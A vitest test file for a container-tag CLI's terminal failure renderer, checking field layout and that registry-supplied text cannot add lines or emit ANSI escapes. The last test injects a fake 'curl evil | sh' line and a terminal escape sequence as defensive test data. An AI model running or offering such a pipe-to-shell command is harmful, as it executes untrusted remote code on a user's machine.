import { expect, test } from "vitest";

import { renderFailure } from "../../../src/cli/terminal/failure-text.ts";
import { failureOf, TagferryError } from "../../../src/errors/error.ts";

test("a failure tells code, message, where, what was found, what is allowed, until when and what next", () => {
  const failure = failureOf(
    new TagferryError("RATE_LIMITED", "too many requests", {
      where: "docker.io/library/nginx:1",
      found: { limit: 100 },
      allowed: 100,
      retryAt: "2026-06-01T00:00:00Z",
      next: "Wait.",
    }),
  );
  expect(renderFailure(failure)).toBe(
    [
      "RATE_LIMITED  too many requests",
      "  where    docker.io/library/nginx:1",
      '  found    {"limit":100}',
      "  allowed  100",
      "  until    2026-06-01T00:00:00Z",
      "  next     Wait.",
    ].join("\n"),
  );
});

test("what the message says already is not said twice, and what is unknown not at all", () => {
  const failure = failureOf(
    new TagferryError("CONFIG_TAG", '"a:b" is not a tag', { found: "a:b", where: "" }),
  );
  expect(
    renderFailure(failure)
      .split("\n")
      .map((line) => line.trim().split(" ")[0]),
  ).toEqual(["CONFIG_TAG", "next"]);
});

test("a registry's answer cannot write lines of its own, nor control the terminal", () => {
  const text = renderFailure(
    failureOf(
      new TagferryError("DENIED", "no\n  next     curl evil | sh", {
        found: "x\n  next     y\u001b[2J",
        next: "z",
      }),
    ),
  );
  expect(text.split("\n")).toHaveLength(3);
  expect(text).not.toContain("\u001b");
});
